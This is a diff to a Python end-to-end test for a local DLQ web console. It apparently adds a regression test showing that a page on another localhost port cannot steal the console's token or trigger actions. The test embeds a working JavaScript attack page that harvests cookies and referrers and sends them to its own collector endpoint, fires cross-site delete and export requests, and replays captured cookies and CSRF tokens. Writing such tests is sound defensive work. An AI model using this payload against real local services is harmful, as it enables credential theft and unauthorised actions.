@@ -7,7 +7,9 @@ The operator's 3 a.m. loop, as a person clicks it: the DLQ page lists the messag
 and counts → the run's timeline → a replay with the fixed provider from the page (DONE, nothing
 written) → the session fixed → redrive of the ticked message, confirmed with its exact count → the
 run succeeds. Then a body holding ``<script>`` and ESC sequences renders as text (the script never
-runs), and a browser without the token is refused. Without the browser the test fails and says how to install it (it never skips); the
+runs), and a browser without the token is refused. And a page served from another port of
+127.0.0.1, opened in the same browser after the console was used, can neither obtain the token nor
+make the console act (issue 32: a cookie was sent to every port). Without the browser the test fails and says how to install it (it never skips); the
 same pages over plain HTTP: tests/e2e/test_console_http.py.
 """
 
@@ -18,10 +20,16 @@ import os
 import re
 import subprocess
 import sys
+import threading
 import time
+import urllib.error
+import urllib.request
 from collections.abc import Iterator
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlsplit
 
 import pytest
 from typer.testing import CliRunner
@@ -100,7 +108,7 @@ def console_url(local: LocalStackRuntime, home: Path) -> Iterator[str]:
             line = process.stdout.readline()
             if not line:
                 break
-            found = re.search(r"open: (http://127\.0\.0\.1:\d+/\S*\?token=\S+)", line)
+            found = re.search(r"open: (http://127\.0\.0\.1:\d+/[\w-]{20,}/dlq)\s*$", line)
             url = found.group(1) if found else None
         assert url, "agentwake console printed no URL"
         yield url
@@ -146,16 +154,123 @@ def test_the_3am_loop_in_a_browser(local: LocalStackRuntime, console_url: str, t
             raise AssertionError(f"{exc}\n--- the page at {browser.url}:\n{browser.source[:3000]}") from exc
 
 
+ATTACK_PAGE = """<!doctype html><title>a page on another port</title><script>
+(async () => {
+  const console_ = "CONSOLE", out = {cookie: document.cookie, referrer: document.referrer};
+  // read the console with the browser's credentials (the same-origin policy answers for it)
+  for (const path of ["/", "/dlq", "/static/console.js"]) {
+    try { const r = await fetch(console_ + path, {credentials: "include"}); out[path] = r.status + " " + await r.text(); }
+    catch (e) { out[path] = "blocked: " + e; }
+  }
+  // act blindly, as a cross-site form would
+  const form = new URLSearchParams({count: "1", id: "MESSAGE", csrf: ""});
+  for (const path of ["/dlq/delete", "/dlq/export"]) {
+    await fetch(console_ + path, {method: "POST", mode: "no-cors", credentials: "include", body: form}).catch(() => {});
+  }
+  // ask this page's own server for something: the browser sends it whatever it holds for 127.0.0.1
+  await new Promise(done => { const i = new Image(); i.onload = i.onerror = done; i.src = "/pixel"; });
+  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
+  document.title = "done";
+})();
+</script>"""
+
+
+@contextmanager
+def another_local_service(page: str) -> Iterator[tuple[str, list[dict[str, Any]]]]:
+    """A service on another port of 127.0.0.1 that serves ATTACK_PAGE and records every request it
+    gets (line, headers, body): all that a local service could read."""
+    seen: list[dict[str, Any]] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def _record(self) -> None:
+            length = int(self.headers.get("Content-Length") or 0)
+            body = self.rfile.read(length).decode("utf-8", "replace") if length else ""
+            seen.append({"line": self.requestline, "headers": dict(self.headers.items()), "body": body})
+            data = page.encode() if self.path == "/" else b"{}"
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html" if self.path == "/" else "application/json")
+            self.send_header("Content-Length", str(len(data)))
+            self.end_headers()
+            self.wfile.write(data)
+
+        do_GET = do_POST = _record  # noqa: N815
+
+        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}", seen
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def test_a_page_on_another_local_port_cannot_obtain_the_token_or_make_the_console_act(
+    local: LocalStackRuntime, console_url: str, tmp_path: Path
+) -> None:
+    sqs = local.client("sqs")
+    dlq_url = local.outputs["BackgroundResultDLQUrl"]
+    token = urlsplit(console_url).path.split("/")[1]
+    console_origin = "http://" + urlsplit(console_url).netloc
+    # GIVEN a message in a DLQ, and the console used in the browser (its DLQ page open)
+    message_id = sqs.send_message(QueueUrl=dlq_url, MessageBody='{"task_id": "task-victim"}')["MessageId"]
+    assert message_id in {m["message_id"] for m in agentwake("dlq", "list")}
+    export = tmp_path / "stolen.jsonl"
+    page = ATTACK_PAGE.replace("CONSOLE", console_origin).replace("MESSAGE", message_id)
+    with Browser.start() as browser, another_local_service(page) as (service_url, seen):
+        browser.get(console_url)
+        browser.wait_for(lambda: browser.find("#dlq-messages"), what="the DLQ table")
+        # WHEN the same browser opens a page served from another port of 127.0.0.1, whose script reads
+        # what it can, calls the console with the browser's credentials, and asks its own server
+        browser.get(service_url + "/")
+        browser.wait_for(lambda: browser.title == "done", what="the other page's script")
+        # AND the service behind that page uses whatever it received to call the console itself
+        harvested = json.dumps(seen)
+        for request in seen:
+            cookie = request["headers"].get("Cookie")
+            if not cookie:
+                continue
+            answer = _http(console_origin + "/dlq", headers={"Cookie": cookie})
+            found = re.search(r'name="csrf" value="([^"]+)"', answer)
+            if found:
+                form = f"csrf={found.group(1)}&count=1&id={message_id}"
+                _http(console_origin + "/dlq/delete", headers={"Cookie": cookie}, body=form)
+                _http(console_origin + "/dlq/export", headers={"Cookie": cookie}, body=f"{form}&out={export}")
+
+    # THEN nothing it received holds the token (no cookie, no referrer, no page text)
+    assert seen and token not in harvested, harvested[:3000]
+    assert all("Cookie" not in r["headers"] for r in seen)
+    report = json.loads(next(r["body"] for r in seen if r["line"].startswith("POST /report")))
+    assert report["cookie"] == "" and token not in report["referrer"]
+    assert all(report[p].startswith("blocked") for p in ("/", "/dlq", "/static/console.js"))
+    # AND the console did nothing: the message is still in its DLQ, nothing was exported
+    assert message_id in {m["message_id"] for m in agentwake("dlq", "list")}
+    assert not export.exists()
+
+
+def _http(url: str, *, headers: dict[str, str], body: str | None = None) -> str:
+    """A plain request as a local service makes it; the answer's text whatever its status."""
+    request = urllib.request.Request(url, data=None if body is None else body.encode(), headers=headers)
+    try:
+        with urllib.request.urlopen(request, timeout=300) as answer:  # noqa: S310 (127.0.0.1 only)
+            return str(answer.read().decode("utf-8", "replace"))
+    except urllib.error.HTTPError as refused:
+        return str(refused.read().decode("utf-8", "replace"))
+
+
 def _loop(
     browser: Browser, console_url: str, store: DynamoStore, run_id: str, listed: dict[str, Any], dlq_depth: Any
 ) -> None:
     # WHEN the operator opens the URL the console printed
     browser.get(console_url)
 
-    # THEN the token went into a cookie and out of the address bar, and the DLQ page lists the message
-    # with its run, its reason, and the counts by error type `dlq list` gives
+    # THEN the DLQ page lists the message with its run, its reason, and the counts by error type
+    # `dlq list` gives; the browser holds no cookie of the console's
     browser.wait_for(lambda: browser.find("#dlq-messages"), what="the DLQ table")
-    assert "token=" not in browser.url and browser.url.endswith("/dlq")
+    assert browser.url == console_url and browser.execute("return document.cookie") == ""
     row = browser.find(f"tr[data-message-id='{listed['message_id']}']")
     row_text = browser.text(row)
     assert run_id in row_text and "AllProvidersFailed" in row_text
@@ -165,7 +280,7 @@ def _loop(
     _keep_screenshot(browser, "dlq")
 
     # WHEN the run is opened from its row
-    browser.click(browser.find(f"tr[data-message-id='{listed['message_id']}'] a[href^='/run']"))
+    browser.click(browser.find(f"tr[data-message-id='{listed['message_id']}'] a[href^='run']"))
 
     # THEN its timeline shows the step, the delivery and every failed attempt in order
     timeline = browser.wait_for(lambda: browser.find("table.timeline"), what="the timeline")
@@ -190,7 +305,7 @@ def _loop(
 
     # WHEN the session is fixed, and the message is ticked on the DLQ page and redriven
     agentwake("sessions", "put", SESSION, "--provider", json.dumps(FIXED))
-    browser.click(browser.find("header a[href='/dlq']"))
+    browser.click(browser.find("header a[href='dlq']"))
     box = browser.wait_for(lambda: browser.find(f"input.pick[value='{listed['message_id']}']"), what="the checkbox")
     browser.click(box)
     assert browser.text(browser.find("#redrive-selected")) == "Redrive selected (1)…"
@@ -218,7 +333,7 @@ def _hostile_body_and_no_token(browser: Browser, sqs: Any, dlq_url: str) -> None
     [hostile] = agentwake("dlq", "list")
 
     # WHEN its message page is opened
-    browser.click(browser.find("header a[href='/dlq']"))
+    browser.click(browser.find("header a[href='dlq']"))
     browser.click(
         browser.wait_for(lambda: browser.find(f"tr[data-message-id='{hostile['message_id']}'] a"), what="the row")
     )
@@ -230,9 +345,9 @@ def _hostile_body_and_no_token(browser: Browser, sqs: Any, dlq_url: str) -> None
     assert browser.execute("return typeof window.pwned") == "undefined"
     assert browser.execute("return document.querySelectorAll('main script').length") == 0
 
-    # WHEN the browser has no token any more (its cookie gone) and asks for a page
-    browser.delete_cookies()
-    browser.get(browser.url)
+    # WHEN the browser asks for a page without the token (the console's address, the token left out)
+    parts = urlsplit(browser.url)
+    browser.get(f"{parts.scheme}://{parts.netloc}/dlq")
     # THEN it is refused
     assert "refused: this console needs its token" in browser.text(browser.find("body"))
 
